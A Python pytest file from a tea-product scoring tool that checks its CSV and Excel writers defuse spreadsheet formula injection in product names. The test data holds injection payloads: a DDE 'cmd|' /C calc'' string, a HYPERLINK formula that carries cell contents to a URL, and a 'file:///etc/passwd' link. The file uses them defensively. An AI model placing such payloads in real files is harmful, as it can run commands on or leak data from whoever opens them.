"""No text of others becomes a formula where a spreadsheet opens what was written."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from inspect import signature
from pathlib import Path

import numpy as np
import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

import ocop
from ocop.cli._csv_text import CsvText
from ocop.cli.main import cli
from ocop.tables._formulas import BREAKS, SIGNS, is_guarded, may_hold_formulas, without_formula

TEA = ocop.criteria_set("qd-26-2026", "tea")
FORMULAS = [
    '=HYPERLINK("http://example.org?x="&A1;"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "＝1+1",
    "＋1+1",
    "－1+A1",
    "＠SUM(1)",
    "  =1+1",
    "\t=1+1",
    "Chè;=1+1",
    "Chè\n=1+1",
]
HARMLESS = ["-5", "+84912345678", "-0,5", "+1.5e-3", "-", "Chè - loại 1", "T-01", "a=b", "'", ""]


def sheets_file(
    path: Path, names: list[str], extra: list[str], assessor: str | None = None
) -> Path:
    """Write a file of tea sheets with a further column."""
    with path.open("w", encoding="utf-8", newline="") as stream:
        writer = csv.writer(stream)
        writer.writerow(["product", "=name", *(["assessor"] if assessor else []), *TEA.codes])
        for name, more in zip(names, extra, strict=True):
            writer.writerow(
                [name, more, *([assessor] if assessor else []), *["1"] * len(TEA.codes)]
            )
    return path


def assessed(names: list[str]) -> ocop.Sheets:
    """Return tea sheets of these products, each filled in by one assessor."""
    answers = np.ones((len(names), len(TEA.codes)), dtype=np.uint8)
    who = ("=An",) * len(names)
    return ocop.Sheets(criteria_set=TEA, products=names, answers=answers, assessors=who)


def invoke(*arguments: object) -> tuple[str, str]:
    """Run a command that ends well; return what it wrote to both streams."""
    from click.testing import CliRunner

    # Before click 8.2 both streams were one unless told otherwise.
    apart = {"mix_stderr": False} if "mix_stderr" in signature(CliRunner).parameters else {}
    done = CliRunner(**apart).invoke(cli, [*map(str, arguments)], catch_exceptions=False)
    assert done.exit_code == 0, done.output
    return done.stdout, done.stderr


def is_formula(text: str) -> bool:
    """Say whether a spreadsheet would run a cell, or a piece of it, told without our function."""
    pieces = [text]
    for sign in BREAKS:
        pieces = [part for piece in pieces for part in piece.split(sign)]
    for piece in pieces:
        start = piece.strip(" \u00a0")
        if start and start[0] in SIGNS and start not in ("-", "+"):
            try:
                float(start.replace(",", "."))
            except ValueError:
                return True
    return False


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_a_text(text: str) -> None:
    """Whatever a formula begins with, an apostrophe stands before it."""
    assert is_formula(text)
    assert not is_formula(without_formula(text))
    assert without_formula(text).replace("'", "") == text.replace("'", "")
    assert may_hold_formulas(f"\0Chè\0{text}")


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_no_formula_stays(text: str) -> None:
    """Numbers with a sign and signs inside a text are left alone."""
    assert without_formula(text) == text


@given(st.lists(st.text(alphabet="=+-@＝ aÊ'\t\r\n;,\"15.", max_size=8), max_size=5))
def test_no_column_keeps_a_formula(cells: list[str]) -> None:
    """The quick search over a column misses nothing; a file reads back as what was written."""
    text = CsvText()
    written = text.head(["a", "b"]) + text.rows({"a": cells, "b": [None, *cells][: len(cells)]})
    rows = list(csv.reader(io.StringIO(written, newline="")))
    assert [row[0] for row in rows[1:]] == list(map(without_formula, cells))
    assert not any(is_formula(cell) for row in rows for cell in row)
    changed = sum(without_formula(cell) != cell for cell in cells)
    assert text.changed["a"] == changed
    assert (text.note() is None) == (text.changed.total() == 0)


def test_results_in_csv_and_json(tmp_path: Path) -> None:
    """CSV is guarded and says so, in names of columns too; JSON keeps products as they are."""
    names = FORMULAS[:8]
    path = sheets_file(tmp_path / "a.csv", names, ["-5", *HARMLESS[1:8]])
    for command in ("score", "rank"):
        out, err = invoke(command, path, "--set", "tea", "--keep", "=name", "--format", "csv")
        rows = list(csv.reader(io.StringIO(out)))
        assert not any(is_formula(cell) for row in rows for cell in row)
        assert err.startswith("note: 9 cells (the header, product) begin like formulas and got")
        out, err = invoke(command, path, "--set", "tea", "--keep", "=name", "--format", "json")
        assert sorted(row["product"] for row in json.loads(out)["results"]) == sorted(names)
        assert err == ""


@pytest.mark.parametrize("ending", ["csv", "txt"])
def test_other_commands_in_csv(tmp_path: Path, ending: str) -> None:
    """Councils, plans and accounts go through the same writer."""
    path = sheets_file(tmp_path / "a.csv", FORMULAS[:8], [""] * 8, "=An")
    out = tmp_path / f"out.{ending}"
    for arguments in (("council", path), ("council", path, "--agree")):
        invoke(*arguments, "--keep", "=name", "--set", "tea", "--format", "csv", "--output", out)
        rows = list(csv.reader(io.StringIO(out.read_text("utf-8"))))
        assert len(rows) >= 3
        assert not any(is_formula(cell) for row in rows for cell in row)


def test_no_command_writes_csv_by_itself() -> None:
    """The module that guards is the only one of the command line that knows how CSV is written."""
    folder = Path(ocop.__file__).parent / "cli"
    users = [p.name for p in folder.glob("*.py") if "import csv" in p.read_text("utf-8")]
    assert users == ["_csv_text.py"]


def test_a_guarded_product_is_not_read_as_another(tmp_path: Path) -> None:
    """What was written in place of a product is refused; an apostrophe alone is a name."""
    path = sheets_file(tmp_path / "a.csv", ["'=1+1", "'t Zand"], ["", ""])
    with pytest.raises(ocop.SheetError) as caught:
        ocop.read_sheets(path, "qd-26-2026", set="tea", keep=["=name"])
    (problem,) = caught.value.problems
    assert (problem.code, problem.line, problem.column) == ("guarded-text", 2, 1)
    assert is_guarded("'=1+1")
    assert not is_guarded("'t Zand")


def test_columns_and_frames_stay_exact(tmp_path: Path) -> None:
    """Programs get products as they are."""
    path = sheets_file(tmp_path / "a.csv", FORMULAS[:8], [""] * 8)
    (sheets,) = ocop.read_sheets(path, "qd-26-2026", set="tea", keep=["=name"])
    scores = ocop.score(sheets)
    assert list(scores.columns()["product"]) == FORMULAS[:8]
    assert scores.to_frame("pandas")["product"].tolist() == FORMULAS[:8]


WILD = [*FORMULAS[:8], "{=1+1}", "http://example.org", "file:///etc/passwd", "mailto:a@b", "0012"]


def test_excel_holds_texts_alone(tmp_path: Path) -> None:
    """In books no cell is a formula or a link, whatever products are called."""
    sheets = assessed(WILD)
    score = tmp_path / "score.xlsx"
    ocop.write_book(ocop.rank(ocop.score(sheets)), score)
    council = tmp_path / "council.xlsx"
    ocop.write_book(ocop.councils([sheets]), council)
    for path in (score, council):
        book = openpyxl.load_workbook(path)
        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
        assert not [cell.value for cell in cells if cell.data_type == "f" or cell.hyperlink]
        assert {*WILD} <= {cell.value for cell in cells}
        assert all(len(name) <= 31 for name in book.sheetnames)
        with zipfile.ZipFile(path) as archive:
            assert not [name for name in archive.namelist() if "external" in name.lower()]


def test_forms_hold_texts_alone(tmp_path: Path) -> None:
    """A product of a blank form is a text; the formulas are those of the form."""
    path = tmp_path / "form.xlsx"
    ocop.write_form(TEA, path, products=WILD)
    book = openpyxl.load_workbook(path)
    named = [sheet["B4"] for sheet in book.worksheets[:-1]]
    assert [cell.value for cell in named] == WILD
    assert {cell.data_type for cell in named} == {"s"}


def test_a_text_that_no_cell_holds_is_refused() -> None:
    """A program would cut it: 32,767 characters are written, one more is an error."""
    for size, fits in ((32_767, True), (32_768, False)):
        sheet = ocop.Sheet(criteria_set=TEA, product="x" * size, answers={})
        file = io.BytesIO()
        if fits:
            ocop.write_book(ocop.score(sheet), file)
            assert len(openpyxl.load_workbook(file).worksheets[0]["A2"].value) == size
            continue
        with pytest.raises(ocop.InputError, match=r"room for 32,767.*\[text-too-long\]"):
            ocop.write_book(ocop.score(sheet), file)
        with pytest.raises(ocop.InputError, match=r"room for 32,767.*\[text-too-long\]"):
            ocop.write_form(TEA, file, products=["x" * size])


def test_the_foot_of_a_page_obeys_no_product() -> None:
    """Signs that steer the foot of a printed page are doubled, and a digit is no size."""
    names = ["15 & chè &\x01", "&" * 300]
    file = io.BytesIO()
    ocop.write_book(ocop.councils([assessed(names)]), file)
    with zipfile.ZipFile(file) as archive:
        parts = [archive.read(f"xl/worksheets/sheet{n}.xml").decode() for n in (2, 3)]
    starts = ("&amp;L&amp;8 &amp;&amp;", "&amp;L&amp;8 15 &amp;&amp; chè")
    for part, start in zip(parts, starts, strict=True):
        foot = part.partition("<oddFooter>")[2].partition("</oddFooter>")[0]
        assert foot.startswith(start)
        assert foot.endswith("&amp;R&amp;8 &amp;P / &amp;N")
        assert foot.partition("&amp;R&amp;8")[0].count("&amp;") % 2 == 0
        assert "\x01" not in part
